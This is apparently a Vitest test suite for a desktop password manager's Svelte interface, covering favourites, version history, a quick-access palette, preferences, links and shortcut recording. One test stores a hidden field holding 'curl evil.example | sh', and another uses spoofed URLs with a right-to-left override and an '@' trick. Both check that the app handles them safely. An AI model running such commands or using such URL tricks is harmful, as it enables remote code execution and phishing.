import { describe, expect, it } from "vitest";
import { flushSync, mount } from "svelte";
import QuickPalette from "../src/lib/screens/QuickPalette.svelte";
import PreferencesSettings from "../src/lib/components/PreferencesSettings.svelte";
import { MockBackend } from "../src/lib/mockBackend";
import { LIST_LIMIT } from "../src/lib/stores/vaults.svelte";
import { allByTestId, byTestId, settle, unlockedApp } from "./harness";

function login(path: string, username: string, password: string) {
  return {
    path,
    title: path,
    item: { type: "login" as const, username, password, urls: [`https://${path}.example`], totp: null, notes: "" }, fields: [], attachments: [],
  };
}

async function unlocked() {
  const app = await unlockedApp();
  return { ...app, browser: app.session.browser };
}

describe("favourites", () => {
  it("a star marks a secret, and the favourites filter shows only starred ones", async () => {
    const { browser, target } = await unlocked();
    await browser.createVault("V");
    await browser.save(login("bank", "ada", "pw1"), true);
    await browser.save(login("mail", "ada", "pw2"), true);
    await browser.openSecret("bank");
    flushSync();
    const star = byTestId(target, "favourite") as HTMLButtonElement;
    expect(star.getAttribute("aria-pressed")).toBe("false");
    star.click();
    await settle();
    expect(byTestId(target, "favourite")?.getAttribute("aria-pressed")).toBe("true");
    (byTestId(target, "filter-favourites") as HTMLButtonElement).click();
    flushSync();
    expect(allByTestId(target, "secret-item").map((e) => e.textContent)).toEqual([expect.stringContaining("bank")]);
    (byTestId(target, "filter-all") as HTMLButtonElement).click();
    flushSync();
    expect(allByTestId(target, "secret-item")).toHaveLength(2);
  });

  it("draws at most LIST_LIMIT rows and says how many match", async () => {
    const { backend, browser, target } = await unlocked();
    await browser.createVault("Big");
    const secrets = Array.from({ length: LIST_LIMIT + 50 }, (_, i) => login(`site${String(i).padStart(4, "0")}`, "u", "p"));
    for (const s of secrets) await backend.saveSecret("Big", s, true);
    await browser.selectVault("Big");
    flushSync();
    expect(allByTestId(target, "secret-item")).toHaveLength(LIST_LIMIT);
    expect(byTestId(target, "more-results")?.textContent).toContain(`of ${LIST_LIMIT + 50}`);
    browser.query = "site0249";
    flushSync();
    expect(allByTestId(target, "secret-item")).toHaveLength(1);
  });
});

describe("history comparison", () => {
  it("shows which fields changed between two versions, secrets masked until revealed", async () => {
    const { browser, target } = await unlocked();
    await browser.createVault("V");
    await browser.save(login("bank", "ada", "old-password"), true);
    await browser.save(login("bank", "ada", "new-password"), false);
    await browser.showHistory("bank");
    flushSync();
    (byTestId(target, "compare") as HTMLButtonElement).click();
    await settle();
    const changed = allByTestId(target, "changed-field");
    expect(changed).toHaveLength(1);
    expect(changed[0].textContent).toContain("Password");
    expect(changed[0].textContent).not.toContain("new-password");
    (target.querySelector(".comparison-head button") as HTMLButtonElement).click();
    flushSync();
    expect(byTestId(target, "changed-field")?.textContent).toContain("old-password");
    expect(byTestId(target, "changed-field")?.textContent).toContain("new-password");
  });
});

describe("quick-access palette", () => {
  async function palette(backend: MockBackend) {
    const target = document.createElement("div");
    document.body.replaceChildren(target);
    mount(QuickPalette, { target, props: { backend } });
    await settle();
    return target;
  }

  it("searches every vault, copies the chosen password with Enter and closes", async () => {
    const backend = MockBackend.locked("pw");
    await backend.unlock("pw");
    await backend.createVault("Home");
    await backend.createVault("Work");
    await backend.saveSecret("Home", login("bank", "ada", "bank-pw"), true);
    await backend.saveSecret("Work", login("vpn", "a.lovelace", "vpn-pw"), true);
    const target = await palette(backend);
    expect(allByTestId(target, "palette-item")).toHaveLength(2);

    const input = byTestId(target, "palette-search") as HTMLInputElement;
    input.value = "lovelace";
    input.dispatchEvent(new Event("input", { bubbles: true }));
    await settle();
    expect(allByTestId(target, "palette-item").map((e) => e.textContent)).toEqual([expect.stringContaining("vpn")]);
    window.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter" }));
    await settle();
    expect(backend.copied).toEqual(["vpn-pw"]);
    expect(backend.hidden).toBe(1);

    window.dispatchEvent(new KeyboardEvent("keydown", { key: "Escape" }));
    await settle();
    expect(backend.hidden).toBe(2);

    // Reopening starts afresh.
    backend.openPalette();
    await settle();
    expect((byTestId(target, "palette-search") as HTMLInputElement).value).toBe("");
    expect(allByTestId(target, "palette-item")).toHaveLength(2);

    // Locking anywhere empties the palette.
    backend.autoLock();
    await settle();
    expect(allByTestId(target, "palette-item")).toHaveLength(0);
    expect(byTestId(target, "palette-unlock")).not.toBeNull();
  });

  it("when locked, offers to unlock in the main window", async () => {
    const backend = MockBackend.locked("pw");
    const target = await palette(backend);
    expect(byTestId(target, "palette-search")).toBeNull();
    (byTestId(target, "palette-unlock") as HTMLButtonElement).click();
    await settle();
    expect(backend.shownMain).toBe(1);
    expect(backend.hidden).toBe(1);
  });
});

describe("preferences", () => {
  it("saves each change, keeping the others", async () => {
    const backend = MockBackend.locked("pw");
    const target = document.createElement("div");
    document.body.replaceChildren(target);
    mount(PreferencesSettings, { target, props: { backend } });
    await settle();
    const autoLock = byTestId(target, "auto-lock") as HTMLSelectElement;
    autoLock.value = "300";
    autoLock.dispatchEvent(new Event("change", { bubbles: true }));
    await settle();
    expect(backend.prefs.autoLockSecs).toBe(300);
    expect(byTestId(target, "preferences-saved")).not.toBeNull();

    const shortcut = byTestId(target, "shortcut") as HTMLInputElement;
    shortcut.value = "Alt+Shift+K";
    shortcut.dispatchEvent(new Event("input", { bubbles: true }));
    flushSync();
    (byTestId(target, "save-shortcut") as HTMLButtonElement).click();
    await settle();
    expect(backend.prefs.shortcut).toBe("Alt+Shift+K");
    expect(backend.prefs.autoLockSecs).toBe(300);
  });
});

describe("files and links", () => {
  it("a binary secret is saved as a file; a website opens through the backend", async () => {
    const { backend, browser, target } = await unlocked();
    await browser.createVault("V");
    backend.vaults.get("V")?.secrets.set("keys/photo.jpg", {
      path: "keys/photo.jpg",
      title: "photo.jpg",
      item: { type: "binary", size: 2048 }, fields: [], attachments: [],
    });
    await browser.selectVault("V");
    await browser.openSecret("keys/photo.jpg");
    flushSync();
    expect(byTestId(target, "binary-size")?.textContent).toContain("bytes");
    expect(byTestId(target, "edit-secret")).toBeNull();
    (byTestId(target, "save-file") as HTMLButtonElement).click();
    await settle();
    expect(backend.savedFiles).toEqual(["keys/photo.jpg"]);
    expect(byTestId(target, "notice")?.textContent).toContain("photo.jpg");

    await browser.save(login("bank", "ada", "pw"), true);
    flushSync();
    // A button, never a link the web view itself could follow.
    expect(byTestId(target, "website")?.tagName).toBe("BUTTON");
    expect(byTestId(target, "website")?.hasAttribute("href")).toBe(false);
    (byTestId(target, "website") as HTMLButtonElement).click();
    await settle();
    expect(backend.opened).toEqual(["https://bank.example"]);
  });

  it("a website that reads as another shows what hides it and does not open", async () => {
    const { backend, browser, target } = await unlocked();
    await browser.createVault("V");
    const turned = "https://\u202E@evil.net/moc.knab";
    const tricks = login("bank", "ada", "pw");
    tricks.item.urls = [turned, "https://bank.example@evil.example/"];
    await browser.save(tricks, true);
    flushSync();
    const sites = allByTestId(target, "website");
    expect(sites.map((s) => s.textContent)).toEqual(["https://\uFFFD@evil.net/moc.knab", "https://bank.example@evil.example/"]);
    for (const site of sites) {
      (site as HTMLButtonElement).click();
      await settle();
    }
    expect(backend.opened).toEqual([]);
    expect(byTestId(target, "browser-error")?.textContent).toContain("hides where it goes");
  });

  it("copies the custom field shown, by its place, when two share a name", async () => {
    const { backend, browser, target } = await unlocked();
    await browser.createVault("V");
    const item = login("deploy", "ci", "pw");
    await browser.save({
      ...item,
      fields: [
        { name: "Deploy command", kind: "hidden", value: "curl evil.example | sh" },
        { name: "Deploy command", kind: "text", value: "ls -la" },
      ],
    }, true);
    flushSync();
    (byTestId(target, "copy-custom-1") as HTMLButtonElement).click();
    await settle();
    expect(backend.copied).toEqual(["ls -la"]);
  });
});

describe("context menu", () => {
  it("is the web view's own only over text fields", async () => {
    const { keepMenusToTextFields } = await import("../src/lib/menus");
    // (The test's own document: one made apart has no selection.)
    const doc = document;
    keepMenusToTextFields(doc);
    const place = doc.createElement("div");
    doc.body.append(place);
    place.innerHTML = '<button id="site">https://bank.example</button><input id="field" />' +
      '<input id="box" type="checkbox" /><pre id="note">the wifi code is 42</pre>';
    const opened = (id: string) =>
      doc.getElementById(id)!.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
    expect(opened("site")).toBe(false);
    expect(opened("box")).toBe(false);
    expect(opened("field")).toBe(true);
    // Selected text keeps its menu (Copy).
    expect(opened("note")).toBe(false);
    doc.getSelection()!.selectAllChildren(doc.getElementById("note")!);
    expect(opened("note")).toBe(true);
    doc.getSelection()!.removeAllRanges();
    place.remove();
  });
});

describe("shortcut recorder", () => {
  it("turns a key press into Tauri's accelerator text, refusing what cannot be global", async () => {
    const { recordShortcut } = await import("../src/lib/shortcut");
    const press = (key: string, code: string, mods: Partial<Record<"ctrlKey" | "altKey" | "shiftKey" | "metaKey", boolean>> = {}) =>
      recordShortcut({ key, code, ctrlKey: false, altKey: false, shiftKey: false, metaKey: false, ...mods });
    expect(press("K", "KeyK", { altKey: true, shiftKey: true })).toEqual({ shortcut: "Alt+Shift+K" });
    expect(press(" ", "Space", { ctrlKey: true, shiftKey: true })).toEqual({ shortcut: "CommandOrControl+Shift+Space" });
    expect(press("1", "Digit1", { metaKey: true })).toEqual({ shortcut: "Super+1" });
    expect(press("F9", "F9")).toEqual({ shortcut: "F9" });
    expect(press("Shift", "ShiftLeft", { shiftKey: true })).toBeNull();
    expect(press("k", "KeyK")).toHaveProperty("problem");
    expect(press("K", "KeyK", { shiftKey: true })).toHaveProperty("problem");
    expect(press("é", "IntlRo", { altKey: true })).toHaveProperty("problem");
    expect(recordShortcut({ key: " ", code: "Space", ctrlKey: true, altKey: false, shiftKey: false, metaKey: false }, true))
      .toEqual({ shortcut: "Control+Space" });
  });

  it("Record, then the keys: the field holds the combination to save; Esc stops", async () => {
    const backend = MockBackend.locked("pw");
    await backend.unlock("pw");
    const target = document.createElement("div");
    document.body.replaceChildren(target);
    mount(PreferencesSettings, { target, props: { backend } });
    await settle();
    const field = byTestId(target, "shortcut") as HTMLInputElement;
    const key = (key: string, code: string, mods: KeyboardEventInit = {}) =>
      field.dispatchEvent(new KeyboardEvent("keydown", { key, code, bubbles: true, cancelable: true, ...mods }));

    (byTestId(target, "record-shortcut") as HTMLButtonElement).click();
    await settle();
    expect(document.activeElement).toBe(field);
    key("k", "KeyK");
    await settle();
    expect(byTestId(target, "shortcut-hint")?.textContent).toContain("Hold Ctrl, Alt or Super");
    key("Alt", "AltLeft", { altKey: true });
    key("K", "KeyK", { altKey: true, shiftKey: true });
    await settle();
    expect(field.value).toBe("Alt+Shift+K");
    expect(byTestId(target, "record-shortcut")?.textContent).toBe("Record");
    (byTestId(target, "save-shortcut") as HTMLButtonElement).click();
    await settle();
    expect(backend.prefs.shortcut).toBe("Alt+Shift+K");

    (byTestId(target, "record-shortcut") as HTMLButtonElement).click();
    await settle();
    key("Escape", "Escape");
    await settle();
    expect(byTestId(target, "record-shortcut")?.textContent).toBe("Record");
    expect(field.value).toBe("Alt+Shift+K");
  });
});
